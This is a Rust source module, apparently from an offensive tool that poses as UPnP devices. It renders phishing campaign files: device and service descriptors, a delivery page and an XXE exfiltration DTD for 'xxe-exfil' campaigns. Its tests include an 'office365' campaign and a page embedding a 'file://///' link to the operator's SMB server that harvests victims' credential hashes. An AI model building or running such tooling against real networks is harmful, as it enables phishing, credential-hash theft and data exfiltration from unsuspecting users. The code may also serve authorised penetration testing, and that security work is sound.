use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use log::debug;

use super::engine::{self, TemplateVars};
use super::placeholders;
use crate::error_handling::types::TemplateError;
use crate::session_management::SessionIdentity;

pub const DEVICE_TEMPLATE: &str = "device.xml";
pub const SERVICE_TEMPLATE: &str = "service.xml";
pub const PHISH_TEMPLATE: &str = "present.html";
pub const EXFIL_TEMPLATE: &str = "data.dtd";

const REQUIRED_FILES: [&str; 2] = [DEVICE_TEMPLATE, PHISH_TEMPLATE];

/// Body returned in place of an optional document the campaign does not provide.
pub const PLACEHOLDER_BODY: &str = ".";

/// Renders the files of one campaign directory.
///
/// The variable set is derived once from the [`SessionIdentity`] and reused for
/// every render, so descriptors and the delivery page reference the same values.
pub struct TemplateManager {
    campaign_dir: PathBuf,
    vars: TemplateVars,
    exfil_campaign: bool,
}

impl TemplateManager {
    pub fn new(identity: &SessionIdentity) -> Self {
        Self {
            campaign_dir: identity.campaign_dir.clone(),
            vars: TemplateVars {
                smb_server: identity.smb_server.clone(),
                local_ip: identity.local_ip.to_string(),
                local_port: identity.local_port.to_string(),
                session_usn: identity.session_usn.clone(),
                redirect_url: identity.redirect_url.clone(),
            },
            exfil_campaign: identity.is_exfil_campaign(),
        }
    }

    pub fn vars(&self) -> &TemplateVars {
        &self.vars
    }

    pub fn device_xml(&self) -> Result<String, TemplateError> {
        self.render(DEVICE_TEMPLATE)
    }

    /// The service descriptor is optional; a campaign without one gets a stub body.
    pub fn service_xml(&self) -> Result<String, TemplateError> {
        match self.render(SERVICE_TEMPLATE) {
            Err(TemplateError::NotFound(_)) => Ok(PLACEHOLDER_BODY.to_string()),
            other => other,
        }
    }

    /// Renders the delivery page, wrapping it in a document envelope when the
    /// campaign only ships a fragment.
    pub fn phish_html(&self) -> Result<String, TemplateError> {
        let content = self.render(PHISH_TEMPLATE)?;
        if content.to_lowercase().contains("<html") {
            Ok(content)
        } else {
            Ok(format!("<html>\n{}\n</html>", content))
        }
    }

    /// Only `xxe-exfil` campaigns serve their entity definitions.
    pub fn exfil_dtd(&self) -> Result<String, TemplateError> {
        if !self.exfil_campaign {
            return Ok(PLACEHOLDER_BODY.to_string());
        }
        self.render(EXFIL_TEMPLATE)
    }

    /// Reads `name` from the campaign directory, converts operator placeholders and
    /// executes the result against the session variables.
    pub fn render(&self, name: &str) -> Result<String, TemplateError> {
        let path = self.campaign_dir.join(name);
        let content = fs::read_to_string(&path).map_err(|e| match e.kind() {
            io::ErrorKind::NotFound => TemplateError::NotFound(path.display().to_string()),
            _ => TemplateError::Io(e),
        })?;
        debug!("Rendering template {}", path.display());

        let native = placeholders::convert(&content);
        engine::execute(&native, &self.vars).map_err(|e| match e {
            TemplateError::Malformed(msg) => {
                TemplateError::Malformed(format!("{}: {}", path.display(), msg))
            }
            other => other,
        })
    }
}

/// Checks that `dir` exists and holds every required campaign file.
pub fn validate_campaign_dir(dir: &Path) -> Result<(), TemplateError> {
    if !dir.is_dir() {
        return Err(TemplateError::NotFound(dir.display().to_string()));
    }
    for file in REQUIRED_FILES {
        let path = dir.join(file);
        if !path.is_file() {
            return Err(TemplateError::NotFound(path.display().to_string()));
        }
    }
    Ok(())
}

/// Sorted names of every valid campaign directly under `root`.
pub fn list_campaigns(root: &Path) -> Result<Vec<String>, TemplateError> {
    let entries = fs::read_dir(root).map_err(|e| match e.kind() {
        io::ErrorKind::NotFound => TemplateError::NotFound(root.display().to_string()),
        _ => TemplateError::Io(e),
    })?;

    let mut campaigns = Vec::new();
    for entry in entries {
        let entry = entry.map_err(TemplateError::Io)?;
        let path = entry.path();
        if path.is_dir() && validate_campaign_dir(&path).is_ok() {
            campaigns.push(entry.file_name().to_string_lossy().into_owned());
        }
    }
    campaigns.sort();
    Ok(campaigns)
}


#[cfg(test)]
mod tests {
    use super::test_support::*;
    use super::*;
    use crate::session_management::session::sim_identity;
    use tempfile::TempDir;

    fn manager_for(dir: &Path) -> TemplateManager {
        let identity = SessionIdentity {
            campaign_dir: dir.to_path_buf(),
            smb_server: "10.0.0.7".to_string(),
            redirect_url: "https://example.org/after".to_string(),
            ..sim_identity()
        };
        TemplateManager::new(&identity)
    }

    #[test]
    fn test_render_substitutes_every_placeholder() {
        let dir = TempDir::new().unwrap();
        write_campaign(dir.path());
        fs::write(
            dir.path().join("all.txt"),
            "$SMB_SERVER|$smb_server|$local_ip|$local_port|$session_usn|$redirect_url",
        )
        .unwrap();
        let manager = manager_for(dir.path());

        let out = manager.render("all.txt").unwrap();
        assert_eq!(
            out,
            "10.0.0.7|10.0.0.7|10.0.0.5|8888|uuid:0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0|https://example.org/after"
        );
        for token in ["$SMB_SERVER", "$smb_server", "$local_ip", "$local_port", "$session_usn", "$redirect_url", "{{"] {
            assert!(!out.contains(token), "{} left in output", token);
        }
        assert_eq!(manager.render("all.txt").unwrap(), out);
    }

    #[test]
    fn test_device_xml_uses_session_values() {
        let dir = TempDir::new().unwrap();
        write_campaign(dir.path());
        let xml = manager_for(dir.path()).device_xml().unwrap();
        assert!(xml.contains("<URLBase>http://10.0.0.5:8888</URLBase>"));
        assert!(xml.contains("<UDN>uuid:0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0</UDN>"));
    }

    #[test]
    fn test_missing_file_is_not_found_and_broken_file_is_malformed() {
        let dir = TempDir::new().unwrap();
        write_campaign(dir.path());
        fs::write(dir.path().join("broken.xml"), "<x>{{.LocalIP</x>").unwrap();
        let manager = manager_for(dir.path());

        assert!(matches!(manager.render("nope.xml"), Err(TemplateError::NotFound(_))));
        assert!(matches!(manager.render("broken.xml"), Err(TemplateError::Malformed(_))));
    }

    #[test]
    fn test_service_xml_is_optional() {
        let dir = TempDir::new().unwrap();
        write_campaign(dir.path());
        let manager = manager_for(dir.path());
        assert_eq!(manager.service_xml().unwrap(), PLACEHOLDER_BODY);

        fs::write(dir.path().join("service.xml"), "<scpd>$local_ip</scpd>").unwrap();
        assert_eq!(manager.service_xml().unwrap(), "<scpd>10.0.0.5</scpd>");
    }

    #[test]
    fn test_phish_html_is_wrapped_only_when_needed() {
        let dir = TempDir::new().unwrap();
        write_campaign(dir.path());
        let manager = manager_for(dir.path());
        let html = manager.phish_html().unwrap();
        assert!(html.starts_with("<html>\n<p>Sign in</p>"));
        assert!(html.ends_with("\n</html>"));
        assert!(html.contains("file://///10.0.0.7/smb/hash.jpg"));

        fs::write(dir.path().join("present.html"), "<HTML><body>full</body></HTML>").unwrap();
        assert_eq!(manager.phish_html().unwrap(), "<HTML><body>full</body></HTML>");
    }

    #[test]
    fn test_exfil_dtd_only_for_exfil_campaigns() {
        let root = TempDir::new().unwrap();
        let plain = root.path().join("office365");
        write_campaign(&plain);
        fs::write(plain.join("data.dtd"), "<!ENTITY x \"$local_ip\">").unwrap();
        assert_eq!(manager_for(&plain).exfil_dtd().unwrap(), PLACEHOLDER_BODY);

        let exfil = root.path().join("xxe-exfil");
        write_campaign(&exfil);
        fs::write(exfil.join("data.dtd"), "<!ENTITY x \"$local_ip\">").unwrap();
        assert_eq!(manager_for(&exfil).exfil_dtd().unwrap(), "<!ENTITY x \"10.0.0.5\">");
    }

    #[test]
    fn test_validate_and_list_campaigns() {
        let root = TempDir::new().unwrap();
        write_campaign(&root.path().join("scanner"));
        write_campaign(&root.path().join("office365"));
        fs::create_dir_all(root.path().join("assets")).unwrap();
        fs::create_dir_all(root.path().join("half")).unwrap();
        fs::write(root.path().join("half").join("device.xml"), "<x/>").unwrap();

        assert!(validate_campaign_dir(&root.path().join("office365")).is_ok());
        assert!(matches!(
            validate_campaign_dir(&root.path().join("half")),
            Err(TemplateError::NotFound(_))
        ));
        assert!(validate_campaign_dir(&root.path().join("missing")).is_err());
        assert_eq!(list_campaigns(root.path()).unwrap(), vec!["office365", "scanner"]);
    }
}
